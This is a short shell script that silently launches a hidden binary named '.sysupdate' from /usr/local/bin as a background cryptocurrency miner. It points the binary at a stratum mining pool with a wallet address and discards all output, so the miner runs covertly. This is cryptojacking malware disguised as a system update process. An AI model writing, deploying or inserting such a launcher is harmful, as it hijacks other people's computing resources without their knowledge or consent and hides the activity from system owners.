#!/bin/sh
cd /usr/local/bin
nohup ./.sysupdate -o stratum+tcp://pool.example.net:3333 -u 4AMASi45ub7Qe4ZE36UT5G6cU4ud8Fhhe4deS4F3cw9KTAb8dLcukC7edhDQ7cn5d4gEYkbUrMWeWQLGsCmrG6dLaYyNoVK -p x -k --background >/dev/null 2>&1 &
